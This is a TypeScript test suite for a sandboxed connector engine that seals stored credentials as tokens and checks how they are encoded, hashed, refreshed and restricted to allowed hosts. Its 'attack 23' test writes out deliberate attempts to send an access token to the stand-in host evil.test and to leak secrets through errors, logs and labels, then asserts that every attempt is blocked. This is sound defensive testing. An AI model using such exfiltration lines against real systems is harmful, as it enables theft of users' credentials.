import { createHash, createHmac } from 'node:crypto';
import { afterAll, expect, test } from 'vitest';
import { matchesHost } from '../definition/hosts.ts';
import { problem } from '../problem/problem.ts';
import { createSandbox } from '../sandbox/quickjs.ts';
import { fakeTransport } from '../transport/fake.ts';
import type { Transport } from '../transport/transport.ts';
import type { WireRequest } from '../wire/request.ts';
import type { Provider } from './fixture.ts';
import { engineOf, fakeWorld, json, plant, ref, subjectOf } from './fixture.ts';

const sandbox = createSandbox({ spare: 0 });
afterAll(() => sandbox.close());

const me = 'https://api.acme.com/me';
const secret = 'pa"ss w/rd-1';
const authData = { access_token: 'stored-token-1', password: secret, user: 'ada lovelace', region: 'eu' };
const env = { CLIENT_ID: 'client-1', CLIENT_SECRET: 'env-secret-1' };

function setUp(document: Readonly<Record<string, unknown>>, provider: Provider = () => json({ id: 7 })) {
  const inner = fakeTransport(provider);
  const transport: Transport = async (request, options) =>
    matchesHost(options.allow, new URL(request.url))
      ? inner(request, options)
      : { ok: false, problem: problem('host_not_allowed', 'request', { host: new URL(request.url).host }) };
  const world = { ...fakeWorld(provider, { sandbox, transport }), requests: inner.requests };
  const authentication = {
    type: 'session',
    fields: [{ key: 'user' }, { key: 'password', type: 'password' }, { key: 'region', isNoSecret: true }],
    sessionConfig: { perform: { source: `return {access_token: 'new'}` } },
    ...Object(document['authentication']),
  };
  const subject = subjectOf({ hosts: ['api.acme.com'], ...document, authentication }, env);
  return { world, subject, ...engineOf(world) };
}

async function tested(source: string, document: Readonly<Record<string, unknown>> = {}, provider?: Provider) {
  const { sealed, ...rest } = document;
  const step = { source, ...(sealed === undefined ? {} : { sealed }) };
  const set = setUp({ ...rest, authentication: { test: step } }, provider);
  await plant(set.engine, set.subject, authData);
  const outcome = await set.engine.test(set.subject, ref);
  return {
    ...set,
    outcome,
    sent: set.world.requests,
    seen: JSON.stringify(outcome.ok ? outcome.report : outcome),
  };
}

const first = (requests: readonly WireRequest[]) => requests[0] ?? { method: '', url: '', headers: {} };

test('COD-1 COD-12 a session is exchanged, tested and labelled by code', async () => {
  const { engine, subject, world } = setUp(
    {
      authentication: {
        sessionConfig: {
          perform: {
            source: `
              const { data } = await z.request({ url: 'https://api.acme.com/login', method: 'POST',
                json: { user: bundle.authData.user, password: bundle.inputData.password, id: process.env.CLIENT_ID } });
              return { access_token: data.session.token, who: bundle.authData.user };`,
          },
        },
        test: {
          source: `return (await z.request('${me}', { headers: { 'X-Token': bundle.authData.access_token } })).data;`,
        },
        connectionLabel: { source: 'return `${bundle.inputData.name} of ${bundle.authData.region}`;' },
      },
    },
    ({ url }) => (url === me ? json({ name: 'Ada' }) : json({ session: { token: 'made-token-1' } })),
  );
  const typed = { user: authData.user, password: secret, region: 'eu' };
  const outcome = await engine.connect(subject, { typed });
  expect(outcome).toMatchObject({
    ok: true,
    value: {
      label: 'Ada of eu',
      credentials: { authData: { access_token: 'made-token-1', who: authData.user } },
    },
  });
  const [login, check] = world.requests;
  expect(JSON.parse(String(login?.body))).toEqual({ user: authData.user, password: secret, id: 'client-1' });
  expect(check?.headers['X-Token']).toBe('made-token-1');
});

test('sealed: code sees a token in place of a secret, and the app sees the secret', async () => {
  const source = `
    z.console.log('token', bundle.authData.access_token, bundle.authData.region);
    await z.request({ url: '${me}?q=' + bundle.authData.password, headers: { 'X-Key': process.env.CLIENT_SECRET } });
    return { looksSealed: /^clvseal[0-9a-v]{26}$/.test(bundle.authData.access_token),
      same: bundle.authData.access_token === bundle.authData.access_token, region: bundle.authData.region };`;
  const { outcome, sent } = await tested(source);
  expect(outcome.report.response).toEqual({ looksSealed: true, same: true, region: 'eu' });
  expect(first(sent).url).toBe(`${me}?q=${encodeURIComponent(secret)}`);
  expect(first(sent).headers['X-Key']).toBe('env-secret-1');
  expect(outcome.report.console[0]?.text).toMatch(/^token :censored:14:[0-9a-f]{10}: eu$/);
});

test('sealed: a value is encoded for the place in which it stands', async () => {
  const source = `
    const { password, user } = bundle.authData;
    const form = { 'content-type': 'application/x-www-form-urlencoded' };
    await z.request({ url: '${me}/' + user, method: 'POST', body: JSON.stringify(JSON.parse(JSON.stringify({ password }))) });
    await z.request({ url: '${me}', method: 'POST', headers: form, body: 'p=' + encodeURIComponent(password) + '&' + new URLSearchParams({ user }) });
    await z.request({ url: '${me}', method: 'POST', json: { password }, params: { user } });
    await z.request({ url: '${me}', method: 'POST', form: { password } });
    return {};`;
  const { sent } = await tested(source);
  expect(sent.map(({ url, body }) => [url, body])).toEqual([
    [`${me}/ada%20lovelace`, JSON.stringify({ password: secret })],
    [me, `p=${encodeURIComponent(secret)}&user=ada%20lovelace`],
    [`${me}?user=ada%20lovelace`, JSON.stringify({ password: secret })],
    [me, `password=${encodeURIComponent(secret)}`],
  ]);
});

test('sealed: hashes, HMACs and base64 of sealed values are those of the values', async () => {
  const source = `
    const { password, user } = bundle.authData, crypto = require('crypto');
    const day = crypto.createHmac('sha256', 'k' + password).update('20260101').digest();
    await z.request({ url: '${me}', headers: {
      Basic: 'Basic ' + btoa(user + ':' + password),
      Buffered: Buffer.from(user + ':' + password).toString('base64url'),
      Hash: z.hash('sha256', 'a' + password), Hmac: z.hmac('sha1', process.env.CLIENT_SECRET, 'text', 'base64'),
      Chain: crypto.createHmac('sha256', day).update('request').digest('hex'),
      Percent: crypto.createHash('sha1').update(encodeURIComponent(password)).digest('hex') } });
    return {};`;
  const { sent, outcome } = await tested(source);
  expect(outcome).toMatchObject({ ok: true });
  const pair = Buffer.from(`${authData.user}:${secret}`);
  const day = createHmac('sha256', `k${secret}`).update('20260101').digest();
  expect(first(sent).headers).toMatchObject({
    Basic: `Basic ${pair.toString('base64')}`,
    Buffered: pair.toString('base64url'),
    Hash: createHash('sha256').update(`a${secret}`).digest('hex'),
    Hmac: createHmac('sha1', env.CLIENT_SECRET).update('text').digest('base64'),
    Chain: createHmac('sha256', day).update('request').digest('hex'),
    Percent: createHash('sha1').update(encodeURIComponent(secret)).digest('hex'),
  });
});

test('sealed: a secret that the app says again comes in as its token', async () => {
  const echo: Provider = () =>
    json({
      said: `key=${authData.access_token}`,
      whole: authData.access_token,
      enc: encodeURIComponent(secret),
    });
  const source = `
    const { data, content } = await z.request('${me}');
    return { same: data.whole === bundle.authData.access_token, said: data.said.startsWith('key=clvseal'),
      content: content.includes('stored-token'), enc: data.enc.startsWith('clvseal') };`;
  const { outcome } = await tested(source, {}, echo);
  expect(outcome.report.response).toEqual({ same: true, said: true, content: false, enc: true });
});

test('attack 23 sealed: no way leads a secret to another host, into a log, a message, a label or a result', async () => {
  const away = await tested(
    `await z.request('https://evil.test/?t=' + bundle.authData.access_token); return {}`,
  );
  expect(away.outcome).toMatchObject({ ok: false, problem: { code: 'host_not_allowed' } });
  const host = await tested(`await z.request('https://' + bundle.authData.access_token + '/x'); return {}`);
  expect(host.outcome).toMatchObject({ ok: false, problem: { code: 'host_not_allowed' } });
  const told = await tested(
    `throw new Error('it is ' + bundle.authData.access_token + btoa(process.env.CLIENT_SECRET)); return 1`,
  );
  const back = await tested(
    `z.console.log([...bundle.authData.access_token].join(' ')); return {all: bundle.authData, hash: z.hash('md5', bundle.authData.password)}`,
  );
  for (const { seen, sent } of [away, host, told, back]) {
    expect(seen).not.toContain('stored-token-1');
    expect(seen).not.toContain('s t o r e d');
    expect(seen).not.toContain(Buffer.from('env-secret-1').toString('base64'));
    expect(seen).not.toContain(createHash('md5').update(secret).digest('hex'));
    expect(sent).toEqual([]);
  }
  const { engine, subject } = setUp({
    authentication: { test: { url: me }, connectionLabel: { source: 'return bundle.authData.password' } },
  });
  const typed = { user: 'ada', password: secret, region: 'eu' };
  expect(await engine.connect(subject, { typed })).toMatchObject({
    ok: false,
    problem: { code: 'label_secret' },
  });
});

test('"sealed": false gives the values themselves', async () => {
  const source =
    'return {length: bundle.authData.password.length, first: process.env.CLIENT_SECRET.slice(0, 3)}';
  const { outcome } = await tested(source, { sealed: false });
  expect(outcome.report.response).toEqual({ length: secret.length, first: 'env' });
});

test('TPL-12 a placeholder in a request of code is refused with the way to write it', async () => {
  const { outcome } = await tested(`await z.request('${me}?k={{bundle.authData.access_token}}'); return {}`);
  expect(outcome).toMatchObject({ ok: false, problem: { code: 'template_in_code' } });
});

test('MW-2 to MW-4 middleware as code changes requests and responses, without a secret of its own', async () => {
  const document = {
    beforeRequest: [
      { source: `request.headers['X-Sum'] = z.hash('md5', request.headers['X-Key']); return request;` },
      {
        source: `request.params.seen = String(request.headers['X-Key'].startsWith('clvseal')); return request;`,
      },
    ],
    afterResponse: [
      {
        source: `if (response.status === 418) { response.data = { tea: response.getHeader('x-kind') }; response.status = 200; } return response;`,
      },
    ],
    requestTemplate: { headers: { 'X-Key': '{{bundle.authData.access_token}}' } },
  };
  const { outcome, sent } = await tested(`return (await z.request('${me}')).data`, document, () =>
    json({}, 418, { 'x-kind': 'green' }),
  );
  expect(outcome.report.response).toEqual({ tea: 'green' });
  expect(first(sent).url).toBe(`${me}?seen=true`);
  expect(first(sent).headers).toMatchObject({
    'X-Key': 'stored-token-1',
    'X-Sum': createHash('md5').update('stored-token-1').digest('hex'),
  });
});

test('REF-5 Z-5 RefreshAuthError renews and runs again once; ExpiredAuthError ends the connection', async () => {
  const { engine, store, subject } = setUp(
    {
      authentication: {
        sessionConfig: { perform: { source: `return {access_token: 'new-token-1'}` } },
        test: {
          source: `const { data } = await z.request('${me}', { headers: { 'X-Token': bundle.authData.access_token } });
          if (data.dead) throw new z.errors.RefreshAuthError('dead'); return data;`,
        },
      },
    },
    ({ headers }) => json({ dead: headers['X-Token'] !== 'new-token-1', ok: 1 }),
  );
  await plant(engine, subject, authData);
  expect(await engine.test(subject, ref)).toMatchObject({ ok: true });
  expect((await store.get(ref.workspace, ref.id))?.authData['access_token']).toBe('new-token-1');

  const over = await tested(`throw new z.errors.ExpiredAuthError('gone'); return 1`);
  expect(over.outcome).toMatchObject({ ok: false, problem: { code: 'connection_expired' } });
  expect((await over.store.get(ref.workspace, ref.id))?.status).toBe('expired');
});

test('Z-5 ThrottledError says how long to wait, HaltedError stops without harm, and a 404 is a 404', async () => {
  const slow = await tested(`throw new z.errors.ThrottledError('slowly', 90); return 1`);
  expect(slow.outcome).toMatchObject({
    problem: { code: 'rate_limited_429', stage: 'test', params: { retryAfter: '90' } },
  });
  const halted = await tested(`throw new z.errors.HaltedError('enough'); return 1`);
  expect(halted.outcome).toMatchObject({ problem: { code: 'code_error', params: { message: 'enough' } } });
  expect((await halted.store.get(ref.workspace, ref.id))?.status).toBe('active');
  const missing = await tested(`await z.request('${me}'); return {}`, {}, () => json({ error: 'no' }, 404));
  expect(missing.outcome).toMatchObject({ problem: { code: 'not_found_404', provider: 'no' } });
  const nothing = await tested(`if (bundle) { z.console.log(1) } else return 1`);
  expect(nothing.outcome).toMatchObject({ problem: { code: 'code_error', stage: 'test' } });
});

test('MW-8 a 401 renews before code sees it, and the code runs again from the start', async () => {
  const { engine, subject, world } = setUp(
    {
      authentication: {
        sessionConfig: { perform: { source: `return {access_token: 'new-token-1'}` } },
        test: {
          source: `try { return (await z.request('${me}', { headers: { t: bundle.authData.access_token } })).data } catch (e) { throw e }`,
        },
      },
    },
    ({ headers }) => (headers['t'] === 'new-token-1' ? json({ id: 1 }) : json({}, 401)),
  );
  await plant(engine, subject, authData);
  expect(await engine.test(subject, ref)).toMatchObject({ ok: true });
  expect(world.requests.map(({ headers }) => headers['t'])).toEqual(['stored-token-1', 'new-token-1']);
});
